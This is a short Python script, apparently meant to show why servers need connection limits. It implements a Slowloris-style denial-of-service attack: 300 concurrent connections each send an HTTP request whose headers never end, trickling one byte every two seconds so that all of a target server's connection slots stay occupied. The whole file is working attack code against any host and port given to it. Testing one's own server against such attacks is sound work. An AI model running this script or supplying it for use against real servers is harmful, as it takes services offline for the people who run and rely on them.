"""Requests whose headers never end, a byte now and then: without a limit they take every place that a server has."""

import asyncio
from contextlib import suppress

CONNECTIONS = 300


async def attack(host: str, port: int) -> None:
    async def one() -> None:
        while True:
            with suppress(OSError):
                _, writer = await asyncio.open_connection(host, port)
                try:
                    writer.write(b"GET /health HTTP/1.1\r\nhost: localhost\r\nx-slow: ")
                    while not writer.is_closing():
                        writer.write(b"a")
                        await writer.drain()
                        await asyncio.sleep(2)
                finally:
                    writer.close()
            await asyncio.sleep(2)

    async with asyncio.TaskGroup() as group:
        for _ in range(CONNECTIONS):
            group.create_task(one())
            await asyncio.sleep(0.002)
